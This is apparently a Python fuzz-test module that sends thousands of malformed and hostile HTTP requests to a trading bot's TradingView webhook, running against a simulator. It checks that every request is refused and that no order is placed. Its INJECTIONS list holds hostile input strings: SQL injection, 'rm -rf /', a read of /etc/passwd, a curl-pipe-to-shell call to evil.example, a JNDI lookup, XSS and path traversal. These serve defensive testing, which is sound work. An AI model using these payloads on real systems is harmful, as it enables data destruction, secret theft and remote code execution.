"""Fuzz: thousands of malformed or hostile requests through real HTTP place zero orders.

One door on one node trading on the simulator (uvicorn on loopback, the node's intake and TradingSession, the
unmodified ib_async client, `SimServer`) runs in a thread for the whole module; hypothesis generates the
requests and a plain httpx client sends them. Every request must be answered, never with a 5xx, with the
status its class calls for and a body naming what was wrong. What counts is the simulated account: after
every test `server.broker` has seen no order at all (and the records hold none). At least `MIN_REQUESTS`
requests are sent in all (`test_zz_...`, which runs last, checks the total).

Requests that carry the right secret are always made unacceptable in some field, so that any order at the
simulator is a defect of the door, the intake or the risk checks. A few mutations the door must let through
to the node's risk checks (a quantity of "1e3" is a whole number) may be answered 200; each of those must end
REJECTED by the risk limits, never placed.
"""

from __future__ import annotations

import asyncio
import json
import math
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import Future
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from webhook_helpers import SECRET, SEED_000_SAMPLE, WAIT, DoorRig, alert, door_rig, sim_server, sqlite_url

from ibot.model.orders import OrderStatus
from ibot.webhook.alerts import AlertState, AlertVerdict

MIN_REQUESTS = 5_000
counts: Counter[str] = Counter()


def fuzz(examples: int) -> settings:
    """`examples` requests, each generated fresh (no shrinking: a failure prints the request it sent)."""
    return settings(
        max_examples=examples,
        deadline=None,
        database=None,
        phases=(Phase.generate,),
        suppress_health_check=list(HealthCheck),
    )


# --- the rig: one node + door in a thread, for the module ---------------------------------------------------


class LiveDoor:
    """The door rig of `webhook_helpers.door_rig` on its own event loop in a thread; tests talk HTTP to it."""

    def __init__(self, url: str) -> None:
        self._url = url
        self._ready = threading.Event()
        self._loop: asyncio.AbstractEventLoop | None = None
        self._stop: asyncio.Event | None = None
        self._error: BaseException | None = None
        self.rig: DoorRig | None = None
        self._thread = threading.Thread(target=self._main, name="fuzz-door", daemon=True)

    def start(self) -> None:
        self._thread.start()
        if not self._ready.wait(4 * WAIT) or self.rig is None:
            raise AssertionError(f"the door did not start: {self._error!r}")

    def _main(self) -> None:
        try:
            asyncio.run(self._serve())
        except BaseException as exc:  # surfaced by start() / stop()
            self._error = exc
            self._ready.set()

    async def _serve(self) -> None:
        self._loop = asyncio.get_running_loop()
        self._stop = asyncio.Event()
        async with sim_server() as server, door_rig(self._url, server) as rig:
            self.rig = rig
            self._ready.set()
            await self._stop.wait()

    def call(self, fn: Callable[[DoorRig], Any]) -> Any:
        """`fn(rig)` run on the door's loop (the simulator and the records are read where they live)."""
        assert self._loop is not None and self.rig is not None
        rig = self.rig

        async def run() -> Any:
            return fn(rig)

        future: Future[Any] = asyncio.run_coroutine_threadsafe(run(), self._loop)
        return future.result(WAIT)

    def stop(self) -> None:
        if self._loop is not None and self._stop is not None:
            self._loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(2 * WAIT)
        assert not self._thread.is_alive(), "the door did not stop"
        assert self._error is None, f"the door failed: {self._error!r}"

    @property
    def url(self) -> str:
        assert self.rig is not None
        return self.rig.door.url


@pytest.fixture(scope="module")
def door(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveDoor]:
    live = LiveDoor(sqlite_url(Path(tmp_path_factory.mktemp("fuzz"))))
    live.start()
    try:
        yield live
    finally:
        live.stop()


@pytest.fixture(scope="module")
def http(door: LiveDoor) -> Iterator[httpx.Client]:
    with httpx.Client(timeout=WAIT) as client:
        yield client


def orders_at_the_simulator(rig: DoorRig) -> int:
    return rig.server.broker.order_count()


def assert_nothing_placed(door: LiveDoor) -> None:
    """No order reached the simulated account, whatever the door answered; the records hold none that was
    sent (an order the risk checks refused is recorded, rejected, with no IB order id)."""
    assert door.call(orders_at_the_simulator) == 0, "an order reached the simulator"
    for order in door.call(lambda rig: rig.node.records.orders()):
        assert order.status is OrderStatus.REJECTED and order.ib_order_id is None, order
        assert order.last_message.startswith(("max_order_size", "max_position")), order


def send(
    http: httpx.Client,
    door: LiveDoor,
    kind: str,
    content: bytes | str,
    *,
    method: str = "POST",
    path: str | None = None,
    headers: dict[str, str] | None = None,
) -> httpx.Response:
    """One request; it must be answered (no connection error, no timeout) and never with a 5xx."""
    url = door.url if path is None else door.url.split("/webhook/")[0] + path
    response = http.request(method, url, content=content, headers=headers)
    counts[kind] += 1
    assert response.status_code < 500, f"{kind}: {response.status_code} {response.text[:300]}"
    return response


def refusal(response: httpx.Response, *statuses: int) -> dict[str, Any]:
    """The door's refusal: one of `statuses`, a JSON body whose error names what was wrong."""
    assert response.status_code in statuses, f"{response.status_code} {response.text[:300]}"
    body = response.json()
    assert isinstance(body, dict) and body.get("error"), body
    assert SECRET not in response.text
    return body


def assert_refused_by_the_node(door: LiveDoor, response: httpx.Response) -> None:
    """An alert the door let through (200) must end refused by the node (intake or risk), never placed."""
    got = response.json()
    assert got["status"] in ("accepted", "duplicate"), got

    def verdict(rig: DoorRig) -> tuple[AlertState, AlertVerdict] | None:
        row = rig.store.get(got["alert_id"])
        return None if row is None else (row.state, row.verdict)

    seen = door.call(verdict)
    for _ in range(500):
        if seen is not None and seen[0] is AlertState.DONE:
            break
        threading.Event().wait(0.01)
        seen = door.call(verdict)
    assert seen is not None and seen[0] is AlertState.DONE, f"alert {got['alert_id']} still {seen}"
    assert seen[1] in (AlertVerdict.REJECTED, AlertVerdict.DUPLICATE), f"alert {got['alert_id']}: {seen}"


# --- strategies ---------------------------------------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE alerts; --",
    '" OR 1=1 --',
    "1; DELETE FROM orders",
    "$(rm -rf /)",
    "`reboot`",
    "| cat /etc/passwd",
    "&& curl http://evil.example/x.sh | sh",
    "\n2025-03-05 15:00:00 INFO alert 1 accepted: BUY 5 MESH5",
    "\r\nX-Injected: 1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "\x00",
    "\u202eMES1!",
    "MES1!\x00BUY",
    "🚀" * 50,
    "A" * 5000,
]
text = st.one_of(st.text(max_size=40), st.sampled_from(INJECTIONS))
json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**40), max_value=10**40),
    st.floats(allow_nan=True, allow_infinity=True),
    text,
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=5,
)

FIELDS = ["ticker", "contract", "exchange", "order", "action", "price", "quantity", "reason", "timenow"]

# values that make each field unacceptable (with the right secret the door must refuse them, or the node's
# risk must: `risky` lists the only ones that may pass the door)
BAD_QUANTITY = st.one_of(
    st.sampled_from(
        [0, -1, -5, "0", "-3", 1.5, "1.5", "2.000001", "one", "", " ", None, True, False, [1], {"q": 1}]
    ),
    st.sampled_from([math.nan, math.inf, -math.inf, "NaN", "inf", "-Infinity", 1e309, 10**30, "1" * 500]),
    st.integers(max_value=0),
    st.integers(min_value=10**7, max_value=10**50),
    st.floats(min_value=0.01, max_value=1e6).filter(lambda x: not x.is_integer()),
    st.floats(max_value=-0.01),
    st.sampled_from(INJECTIONS),
)
RISKY_QUANTITY = st.sampled_from(["1e3", 6, "6", 1000, "999999", 1_000_000])  # past max_order_size (5)
BAD_PRICE = st.one_of(
    st.sampled_from(
        [math.nan, math.inf, -math.inf, "NaN", "-Infinity", 0, "0", -1, "-5", "abc", [], {}, True]
    ),
    st.floats(max_value=-0.0001),
    st.sampled_from(INJECTIONS),
)
BAD_TICKER: st.SearchStrategy[Any] = st.one_of(
    st.sampled_from(
        [
            "FOO1!",
            "MESZ2020",
            "MES0!",
            "MES9!",
            "CME_MINI:",
            ":MES1!",
            "MES1!!",
            "mes 1!",
            "",
            " ",
            None,
            1,
            [],
            {},
        ]
    ),
    st.sampled_from(INJECTIONS),
    st.text(min_size=1, max_size=12).filter(lambda s: s.strip().upper() not in {"MES", "MNQ", "ES", "NQ"}),
)
BAD_ACTION: st.SearchStrategy[Any] = st.one_of(
    st.sampled_from(["hold", "BUYY", "", "long", "short", None, 1, True, [], {}, "BUY SELL"]),
    st.sampled_from(INJECTIONS),
)
BAD_ORDER: st.SearchStrategy[Any] = st.one_of(
    st.sampled_from(["STOP", "STP", "MOC", "", "limit", None, 2, [], {}, "LMT MKT"]),
    st.sampled_from(INJECTIONS),
)
BAD_TIME = st.one_of(
    st.sampled_from(["2020-01-01T00:00:00Z", "x", "", "yesterday", "9999-99-99T99:99:99Z", [], {}, True]),
    st.sampled_from(INJECTIONS),
)
BAD = {
    "quantity": BAD_QUANTITY,
    "price": BAD_PRICE,
    "ticker": BAD_TICKER,
    "action": BAD_ACTION,
    "order": BAD_ORDER,
    "timenow": BAD_TIME,
}


def encode(body: dict[str, Any]) -> str:
    """JSON as TradingView (or an attacker) might send it: NaN and Infinity as bare tokens, unicode raw. A
    lone surrogate cannot travel as UTF-8: it goes as its JSON escape (\\udXXX), as a client must send it."""
    text = json.dumps(body, ensure_ascii=False, default=str)
    return text.encode("utf-8", "backslashreplace").decode("utf-8")


# --- 1. the secret ------------------------------------------------------------------------------------------

wrong_secrets = st.one_of(
    st.text(max_size=64).filter(lambda s: s != SECRET),
    st.sampled_from(
        [
            SECRET.upper(),
            SECRET[:-1],
            SECRET + " ",
            " " + SECRET,
            SECRET + "\x00",
            SECRET[::-1],
            SECRET.replace("a", "а"),  # a Cyrillic a
            SECRET * 2,
            "[redacted]",
            "**********",
        ]
    ),
    st.builds(
        lambda i, c: SECRET[:i] + c + SECRET[i + 1 :], st.integers(0, len(SECRET) - 1), st.characters()
    ).filter(lambda s: s != SECRET),
    json_values.filter(lambda v: v != SECRET),
)


@fuzz(1200)
@given(
    secret=st.one_of(st.just(...), wrong_secrets),
    extra=st.dictionaries(st.sampled_from(FIELDS), json_scalars, max_size=3),
)
def test_a_valid_looking_alert_without_the_right_secret_is_401_and_places_nothing(
    door: LiveDoor, http: httpx.Client, secret: Any, extra: dict[str, Any]
) -> None:
    body = alert(secret=secret)
    body.update(extra)  # even with every field fine, a wrong secret is 401 before the fields are read
    if lone_surrogate(body):  # \udXXX alone names no character: the body is not JSON, whatever the secret
        refusal(send(http, door, "secret", encode(body)), 400)
        return
    got = refusal(send(http, door, "secret", encode(body)), 401)
    assert got["status"] == "unauthorized" and got["field"] == "secret"


def lone_surrogate(value: Any) -> bool:
    """True when a string anywhere in `value` (keys included) holds a surrogate code point on its own."""
    if isinstance(value, str):
        return any("\ud800" <= ch <= "\udfff" for ch in value)
    if isinstance(value, dict):
        return any(lone_surrogate(k) or lone_surrogate(v) for k, v in value.items())
    if isinstance(value, list | tuple):
        return any(lone_surrogate(v) for v in value)
    return False


def test_after_the_secret_fuzz_nothing_was_placed(door: LiveDoor) -> None:
    assert_nothing_placed(door)


# --- 2. bodies that are not a JSON object -------------------------------------------------------------------


def _truncated(cut: float) -> str:
    full = json.dumps(alert())
    return full[: max(0, int(len(full) * cut) - 1)]


not_json = st.one_of(
    st.text(max_size=300),
    st.binary(max_size=300),
    st.builds(_truncated, st.floats(0.0, 0.99)),
    st.just(SEED_000_SAMPLE.replace("{{ticker}}", "MES1!").replace("{{exchange}}", "CME_MINI")),
    st.builds(lambda b: b.replace(SECRET, SECRET).replace(",", "", 1), st.just(json.dumps(alert()))),
    st.builds(lambda n: "[" * n + "]" * n, st.integers(1, 3000)),
    st.builds(lambda n: '{"a":' * n + "1" + "}" * n, st.integers(1, 3000)),
    st.sampled_from(
        ["", "null", "true", "1", '"x"', "[]", "[{}]", "{", "}", "{}}", "{'secret': 1}", "\ufeff{}"]
    ),
    st.builds(lambda v: json.dumps([v]), json_values),
    st.builds(lambda b: b.encode("utf-16"), st.just(json.dumps(alert()))),
)


@fuzz(1000)
@given(raw=not_json, content_type=st.sampled_from(["text/plain", "application/json", None]))
def test_a_body_that_is_not_a_json_object_is_refused(
    door: LiveDoor, http: httpx.Client, raw: str | bytes, content_type: str | None
) -> None:
    headers = {"content-type": content_type} if content_type else None
    response = send(http, door, "not json", raw, headers=headers)
    # a JSON object without the secret ("{}") is 401; anything else is 400 naming where
    got = refusal(response, 400, 401)
    if response.status_code == 400:
        assert got["field"] == "body"


def test_after_the_json_fuzz_nothing_was_placed(door: LiveDoor) -> None:
    assert_nothing_placed(door)


# --- 3. the right secret, mutated fields --------------------------------------------------------------------

mutations = st.dictionaries(st.sampled_from(sorted(BAD)), st.just(None), min_size=1, max_size=3).flatmap(
    lambda keys: st.fixed_dictionaries({k: BAD[k] for k in keys})
)


@fuzz(1500)
@given(
    bad=mutations,
    noise=st.dictionaries(st.sampled_from(["reason", "exchange", "contract"]), json_scalars, max_size=2),
    order=st.sampled_from(["MKT", "LMT", "mkt", "lmt"]),
    drop=st.sets(st.sampled_from(FIELDS)),
)
def test_the_right_secret_with_a_bad_field_is_422_naming_a_field_and_places_nothing(
    door: LiveDoor,
    http: httpx.Client,
    bad: dict[str, Any],
    noise: dict[str, Any],
    order: str,
    drop: set[str],
) -> None:
    body = alert(order=order)
    body.update(noise)
    for name in drop - set(bad):
        body.pop(name, None)
    body.update(bad)
    response = send(http, door, "fields", encode(body))
    if response.status_code == 200:  # e.g. "MES9!": a month the roll calendar names, unknown to IB
        assert_refused_by_the_node(door, response)
        return
    got = refusal(response, 400, 422)
    assert got["status"] == "rejected" and got["field"], got


@fuzz(300)
@given(
    quantity=RISKY_QUANTITY,
    action=st.sampled_from(["BUY", "SELL", "buy", "sell"]),
    extra=st.dictionaries(st.sampled_from(["id", "reason"]), text),
)
def test_a_quantity_past_the_risk_limit_is_never_placed(
    door: LiveDoor, http: httpx.Client, quantity: Any, action: str, extra: dict[str, Any]
) -> None:
    body = alert(quantity=quantity, action=action)
    body.update(extra)
    response = send(http, door, "risk", encode(body))
    if response.status_code != 200:
        refusal(response, 422)
        return
    assert_refused_by_the_node(door, response)


def test_after_the_field_fuzz_nothing_was_placed(door: LiveDoor) -> None:
    assert_nothing_placed(door)


# --- 4. huge bodies, content types, methods and paths -------------------------------------------------------


@fuzz(100)
@given(size=st.integers(65_537, 400_000), chunked=st.booleans(), secret=st.booleans())
def test_a_body_over_64_kb_is_413(
    door: LiveDoor, http: httpx.Client, size: int, chunked: bool, secret: bool
) -> None:
    body = alert(secret=SECRET if secret else "wrong-secret-here", quantity=None)
    body.pop("quantity")
    body["reason"] = "x" * size
    raw = encode(body).encode()
    content: Any = iter([raw[i : i + 16_384] for i in range(0, len(raw), 16_384)]) if chunked else raw
    response = http.post(door.url, content=content)
    counts["huge"] += 1
    refusal(response, 413)


@fuzz(400)
@given(
    content_type=st.one_of(
        st.sampled_from(
            [
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/xml",
                "text/html; charset=latin-1",
                "application/json; charset=utf-32",
                "image/png",
                "",
                "*/*",
                "application/json\r\nX-Evil: 1",
            ]
        ),
        st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=40),
    ),
    form=st.booleans(),
)
def test_wrong_content_types_change_nothing(
    door: LiveDoor, http: httpx.Client, content_type: str, form: bool
) -> None:
    # a form-encoded alert is not JSON (400); a JSON alert under another content type is read as JSON, as
    # TradingView's text/plain is, and its wrong secret makes it 401
    raw = "secret=" + SECRET + "&ticker=MES1!&action=BUY&quantity=1" if form else encode(alert(secret="nope"))
    try:
        response = send(http, door, "content type", raw, headers={"content-type": content_type})
    except httpx.LocalProtocolError:  # httpx refuses to send a header with a line break: nothing was sent
        return
    refusal(response, 400, 401)


@fuzz(600)
@given(
    method=st.sampled_from(["GET", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "POST"]),
    path=st.one_of(
        st.sampled_from(
            [
                "/",
                "/webhook",
                "/webhook/",
                "/webhook/tradingview/",
                "/webhook/TradingView",
                "/webhook/tradingview/../tradingview",
                "/webhook/tradingview%00",
                "/docs",
                "/openapi.json",
                "/admin",
                "/webhook/tradingview?secret=" + SECRET,
            ]
        ),
        st.text(
            alphabet=st.characters(min_codepoint=33, max_codepoint=126, exclude_characters="#?"), max_size=30
        ).map(lambda p: "/" + p),
    ),
)
def test_wrong_methods_and_paths_place_nothing(
    door: LiveDoor, http: httpx.Client, method: str, path: str
) -> None:
    # a valid alert with the right secret, sent where it does not belong: never placed
    if method == "POST" and path.split("?", maxsplit=1)[0] in (
        "/webhook/tradingview",
        "/webhook/tradingview/../tradingview",
    ):
        method = "PUT"
    raw = encode(alert(id=f"misdirected-{counts['paths']}"))
    response = send(http, door, "paths", b"" if method in ("GET", "HEAD") else raw, method=method, path=path)
    assert response.status_code in (307, 400, 404, 405), f"{method} {path}: {response.status_code}"


def test_zz_thousands_of_hostile_requests_placed_zero_orders(door: LiveDoor) -> None:
    total = sum(counts.values())
    assert total >= MIN_REQUESTS, f"only {total} requests were sent: {dict(counts)}"
    threading.Event().wait(0.5)  # anything still queued for the intake has had its turn
    assert_nothing_placed(door)

    def recorded(rig: DoorRig) -> tuple[Counter[str], list[str]]:
        alerts = rig.store.alerts()
        leaks = [str(a.id) for a in alerts if SECRET in a.body or SECRET in a.reason]
        return Counter(str(a.verdict) for a in alerts), leaks

    verdicts, leaks = door.call(recorded)
    assert not leaks, f"the secret is in the records of alerts {leaks[:5]}"
    assert verdicts["accepted"] == 0 and verdicts["queued"] == 0, verdicts
    assert sum(verdicts.values()) >= MIN_REQUESTS - counts["paths"], verdicts
